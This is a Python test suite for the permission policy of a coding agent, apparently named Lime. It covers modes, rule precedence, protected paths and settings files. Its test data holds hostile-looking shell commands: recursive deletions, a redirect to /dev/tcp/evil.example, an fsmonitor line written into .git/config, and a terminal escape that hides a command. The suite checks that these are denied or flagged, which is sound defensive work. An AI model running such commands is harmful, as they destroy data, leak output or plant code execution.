"""Lime's permission model as a decision table: modes, rules and their precedence, compound bash
commands, protected paths, --allowedTools and the settings files' scopes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from lime.errors import ConfigError, UsageError
from lime.runtime import settings as settings_mod
from lime.runtime.permissions import Policy, canonical, is_protected, parse_rule, path_matches
from lime.runtime.tools import TOOLS, Workspace

MODES = ("default", "plan", "acceptEdits", "bypassPermissions", "dontAsk")


def tool(name: str) -> Any:
    return next(t for t in TOOLS.values() if canonical(t.name) == name)


R, W, E, B = tool("read_file"), tool("write_file"), tool("edit_file"), tool("bash")


@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    return Workspace(tmp_path.resolve())


def policy(mode: str = "default", *, allow: list[str] = (), ask: list[str] = (), deny: list[str] = (),
           scope: str = "user", allowed_tools: list[str] = ()) -> Policy:  # type: ignore[assignment]
    s = settings_mod.Settings()
    for kind, texts in (("allow", allow), ("ask", ask), ("deny", deny)):
        s.rules[kind] = [settings_mod.RawRule(t, scope, f"{scope} settings") for t in texts]
    return Policy.from_args(mode, False, allowed_tools, s)


def decide(p: Policy, t: Any, ws: Workspace, **args: Any) -> str:
    return p.decide(t, args, ws)


@pytest.mark.parametrize(("mode", "expected"), [
    ("default", ("allow", "ask", "ask", "ask")),
    ("plan", ("allow", "deny", "deny", "deny")),
    ("acceptEdits", ("allow", "allow", "allow", "ask")),
    ("bypassPermissions", ("allow", "allow", "allow", "allow")),
    ("dontAsk", ("allow", "allow", "allow", "allow")),
])
def test_modes_as_lime_documents_them(mode: str, expected: tuple[str, ...], ws: Workspace) -> None:
    p = policy(mode)
    got = (decide(p, R, ws, path="a.py"), decide(p, W, ws, path="a.py", content=""),
           decide(p, E, ws, path="a.py"), decide(p, B, ws, command="make"))
    assert got == expected


def test_deny_beats_ask_beats_allow(ws: Workspace) -> None:
    p = policy(allow=["bash"], ask=["Bash(git push:*)"], deny=["Bash(rm:*)"])
    assert decide(p, B, ws, command="ls") == "allow"
    assert decide(p, B, ws, command="git push origin") == "ask"
    assert decide(p, B, ws, command="rm -rf build") == "deny"
    # A deny rule holds in every mode, bypassPermissions included; ask rules hold in dontAsk.
    for mode in MODES:
        assert decide(policy(mode, deny=["Bash(rm:*)"]), B, ws, command="ls && rm x") == "deny"
    assert decide(policy("dontAsk", ask=["Bash(git push:*)"]), B, ws, command="git push") == "ask"
    assert decide(policy("bypassPermissions", ask=["bash"]), B, ws, command="git push") == "allow"


def test_deny_rules_see_commands_hidden_in_substitutions_and_sh_c(ws: Workspace) -> None:
    p = policy("dontAsk", deny=["Bash(rm:*)"])
    for cmd in ["echo $(rm -rf x)", "echo `rm x`", "sh -c 'rm -rf x'", "for f in *; do rm $f; done",
                "true\nrm x", "ls | rm x"]:
        assert decide(p, B, ws, command=cmd) == "deny", cmd
    assert decide(p, B, ws, command="npm run format") == "allow"


@pytest.mark.parametrize("command", [
    "git status; echo > f", "git status && touch f", "git status || touch f", "git status | sh",
    "git status $(touch f)", "git status `touch f`", "git status\ntouch f", "git status & touch f",
    "git status <(touch f)", "git status > /tmp/outside", "eval git status", "sh -c 'git status'",
    "bash -lc 'git status'", "FOO=1 git status", "git status; $(echo rm) x", "git statusx",
    "git status 'unterminated", "if true; then git status; fi", "git status > \"$HOME/x\"",
    "git status $((x[$(id)]))", "touch PWNED # \r\x1b[2Kls -la", "git status 2>/dev/tcp/evil.example/80",
    "git status > *.txt", "git status; " + "(" * 3000 + "ls" + ")" * 3000, "git status " + "$(" * 3000 + "x" + ")" * 3000,
])
def test_prefix_rules_do_not_approve_compound_commands(command: str, ws: Workspace) -> None:
    p = policy(allow=["Bash(git status:*)"])
    assert decide(p, B, ws, command=command) == "ask"


def test_every_segment_allowed_runs_unasked(ws: Workspace) -> None:
    p = policy(allow=["Bash(git status:*)", "Bash(git diff:*)", "Bash(wc -l)", "Bash(echo *)"])
    for cmd in ["git status", "git status --short", "git status && git diff --stat", "git diff | wc -l",
                "git status > status.txt 2>&1", "git status >/dev/null", "echo hi; git status",
                "(git status; git diff)", "git status\n\ngit diff"]:
        assert decide(p, B, ws, command=cmd) == "allow", cmd
    # The old names and lower-case forms are the same rules.
    assert decide(policy(allow=["shell(git status:*)"]), B, ws, command="git status") == "allow"
    assert decide(policy(allow=["shell"]), B, ws, command="anything $(at) all") == "allow"


@pytest.mark.parametrize("path", [
    ".git/config", ".git/hooks/pre-commit", "sub/.git/config", ".lime/settings.local.json", ".lime.json",
    ".vscode/tasks.json", ".github/workflows/ci.yml", ".bashrc", ".zshrc", ".profile", ".envrc",
    "AGENTS.md", "AGENTS.local.md", "docs/agents.md", ".GIT/config",
])
def test_protected_paths_ask_in_every_mode_but_bypass(path: str, ws: Workspace) -> None:
    assert is_protected(path)
    for t, args in ((E, {"path": path, "old_string": "a", "new_string": "b"}), (W, {"path": path, "content": "x"})):
        got = {mode: policy(mode, allow=["edit_file", "write_file"]).decide(t, args, ws) for mode in MODES}
        assert got == {"default": "ask", "plan": "deny", "acceptEdits": "ask", "bypassPermissions": "allow",
                       "dontAsk": "deny"}, path


def test_protected_paths_through_a_symlink_and_shell_redirections(ws: Workspace) -> None:
    (ws.cwd / ".git").mkdir()
    (ws.cwd / ".git" / "config").write_text("")
    (ws.cwd / "innocent.txt").symlink_to(ws.cwd / ".git" / "config")
    assert decide(policy("acceptEdits"), W, ws, path="innocent.txt", content="x") == "ask"
    p = policy("acceptEdits", allow=["Bash(echo:*)"])
    assert decide(p, B, ws, command="echo '[core] fsmonitor = x' >> .git/config") == "ask"
    assert decide(policy("dontAsk"), B, ws, command="echo x >> .git/config") == "deny"
    assert decide(p, B, ws, command="echo x >> notes.txt") == "allow"
    # After a cd, a relative target is somewhere else: never approved by rules.
    q = policy("acceptEdits", allow=["Bash(echo:*)", "Bash(cd:*)"])
    assert decide(q, B, ws, command="cd .git && echo '[core]' >> config") == "ask"
    assert decide(q, B, ws, command="cd sub && echo hi") == "allow"


def test_an_explicit_rule_from_trusted_settings_unlocks_a_protected_path(ws: Workspace) -> None:
    args = {"path": ".github/workflows/ci.yml", "content": "x"}
    assert policy("dontAsk", allow=["Edit(.github/workflows/**)"]).decide(W, args, ws) == "allow"
    assert policy("default", allow=["Write(.github/**)"]).decide(W, args, ws) == "allow"
    # A checked-in project file cannot do the same; nor can a bare tool name.
    assert policy("dontAsk", allow=["Edit(.github/workflows/**)"], scope="project").decide(W, args, ws) == "deny"
    assert policy("dontAsk", allow=["write_file"]).decide(W, args, ws) == "deny"


def test_path_rules_scope_edits_and_reads(ws: Workspace) -> None:
    p = policy(allow=["Edit(docs/**)"], deny=["Read(secrets/**)", "Write(*.lock)"])
    assert decide(p, E, ws, path="docs/a/b.md") == "allow"
    assert decide(p, W, ws, path="docs/new.md", content="") == "allow"
    assert decide(p, E, ws, path="src/a.py") == "ask"
    assert decide(p, R, ws, path="secrets/key.pem") == "deny"
    assert decide(p, tool("grep_search"), ws, pattern="x", path="secrets") == "deny"
    assert decide(p, W, ws, path="sub/poetry.lock", content="") == "deny"
    assert decide(p, E, ws, path="../outside/docs/x.md") == "ask"


def test_glob_semantics() -> None:
    assert path_matches(".git/**", ".git/config") and path_matches(".git", ".git/hooks/x")
    assert path_matches("*.md", "a/b/c.md") and not path_matches("src/*.py", "src/a/b.txt")
    assert path_matches("src/**/*.py", "src/a.py") and path_matches("src/**/*.py", "src/a/b.py")
    assert not path_matches("", "a") and not path_matches("docs/**", "docs-old/x")


def test_allowed_tools_restricts_the_offered_set(ws: Workspace) -> None:
    p = policy(allowed_tools=["read_file,grep"])
    assert sorted(canonical(t.name) for t in p.offered()) == ["grep_search", "read_file"]
    assert decide(p, B, ws, command="ls") == "deny"
    assert "not enabled" in p.check(B, {"command": "ls"}, ws).reason
    assert decide(p, R, ws, path="a") == "allow"
    # A bare name only offers the tool; it does not approve it.
    assert decide(policy(allowed_tools=["Edit"]), E, ws, path="a") == "ask"
    # A patterned entry offers the tool and approves matching calls.
    q = policy(allowed_tools=["Bash(git diff:*)"])
    assert decide(q, B, ws, command="git diff") == "allow" and decide(q, B, ws, command="git push") == "ask"
    assert {canonical(t.name) for t in policy("plan").offered()} == {"read_file", "glob_search", "grep_search"}
    with pytest.raises(UsageError, match="unknown tool"):
        policy(allowed_tools=["Frobnicate"])


def test_always_remembers_edits_or_one_exact_command(ws: Workspace) -> None:
    p = policy()
    p.remember(B, {"command": "make test"})
    assert decide(p, B, ws, command="make test") == "allow"
    assert decide(p, B, ws, command="make test; rm -rf ~") == "ask"
    p.remember(E, {"path": "a.py"})
    assert decide(p, W, ws, path="b.py", content="") == "allow"
    assert decide(p, W, ws, path=".git/config", content="") == "ask"


def test_skip_permissions_and_mode_flags() -> None:
    assert Policy.from_args(None, True, []).mode == "bypassPermissions"
    with pytest.raises(UsageError):
        Policy.from_args("plan", True, [])
    with pytest.raises(ConfigError, match="unknown tool"):
        parse_rule("Frob(x)", "user", "settings.json")


# -- settings files ----------------------------------------------------------------------------


def write(path: Path, data: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data) if not isinstance(data, str) else data)
    return path


def test_default_mode_is_honoured_from_user_local_and_flag_only(tmp_path: Path) -> None:
    user = write(tmp_path / "home/settings.json", {"permissions": {"defaultMode": "acceptEdits"}})
    project = write(tmp_path / "p/.lime.json", {"permissions": {"defaultMode": "bypassPermissions",
                                                                "sandbox": False}, "sandbox": False})
    local = write(tmp_path / "p/.lime/settings.local.json", {"permissions": {"defaultMode": "plan"}})
    s = settings_mod.load(user=user, project=[project], local=None, flag=None)
    assert s.default_mode == "acceptEdits" and s.sandbox is None
    (note,) = s.notes  # one line per file, naming everything it ignored
    assert "ignored permissions.defaultMode and sandbox: false" in note
    s = settings_mod.load(user=user, project=[project], local=local, flag=None)
    assert s.default_mode == "plan" and s.mode_origin == str(local)
    s = settings_mod.load(user=user, project=[project], local=local,
                          flag='{"permissions": {"defaultMode": "dontAsk"}, "sandbox": false}')
    assert (s.default_mode, s.mode_origin, s.sandbox) == ("dontAsk", "--settings", False)
    # The command line's --permission-mode wins over every file.
    assert Policy.from_args("default", False, [], s).mode == "default"
    assert Policy.from_args(None, False, [], s).mode == "dontAsk"


def test_rules_add_up_across_scopes_and_flag_file(tmp_path: Path, ws: Workspace) -> None:
    user = write(tmp_path / "u.json", {"permissions": {"allow": ["Bash(make:*)"]}})
    project = write(tmp_path / "p.json", {"permissions": {"deny": ["Bash(make deploy:*)"]}})
    flag = write(tmp_path / "extra.json", {"permissions": {"ask": ["Bash(make clean)"]}})
    s = settings_mod.load(user=user, project=[project], local=None, flag=str(flag))
    p = Policy.from_args(None, False, [], s)
    assert decide(p, B, ws, command="make test") == "allow"
    assert decide(p, B, ws, command="make clean") == "ask"
    assert decide(p, B, ws, command="make deploy") == "deny"
    assert "p.json" in p.check(B, {"command": "make deploy"}, ws).reason
    s = settings_mod.load(user=user, project=[project], local=None, flag=None, sources={"user"})
    assert decide(Policy.from_args(None, False, [], s), B, ws, command="make deploy") == "allow"


@pytest.mark.parametrize(("content", "message"), [
    ("{not json", "not valid JSON (line 1"),
    ("[]", "must hold a JSON object"),
    ('{"permissions": {"allow": "bash"}}', "permissions.allow must be a list of strings"),
    ('{"permissions": {"defaultMode": "yolo"}}', "defaultMode must be one of"),
    ('{"sandbox": "no"}', "sandbox must be true or false"),
    ("[" * 100_000, "nested too deeply"),
])
def test_bad_settings_files_are_one_clear_error(tmp_path: Path, content: str, message: str) -> None:
    path = write(tmp_path / "settings.json", content)
    with pytest.raises(ConfigError, match=message.replace("(", r"\(")) as info:
        settings_mod.load(user=path, project=[], local=None, flag=None)
    assert str(path) in str(info.value)


def test_settings_flag_errors() -> None:
    with pytest.raises(UsageError, match="no such file"):
        settings_mod.load(user=None, project=[], local=None, flag="/nonexistent/x.json")
    with pytest.raises(ConfigError, match="--settings is not valid JSON"):
        settings_mod.load(user=None, project=[], local=None, flag="{oops")
    with pytest.raises(ConfigError, match="unknown tool"):
        s = settings_mod.load(user=None, project=[], local=None, flag='{"permissions": {"deny": ["Nope"]}}')
        Policy.from_args(None, False, [], s)


def test_the_sandbox_follows_the_mode_and_the_trusted_setting() -> None:
    off = settings_mod.load(user=None, project=[], local=None, flag='{"sandbox": false}')
    assert Policy.from_args(None, False, []).sandboxed
    assert not Policy.from_args(None, False, [], off).sandboxed
    p = Policy.from_args("bypassPermissions", False, [])
    assert not p.sandboxed
    p.set_mode("acceptEdits")
    assert p.sandboxed and p.mode_origin == "/permissions"
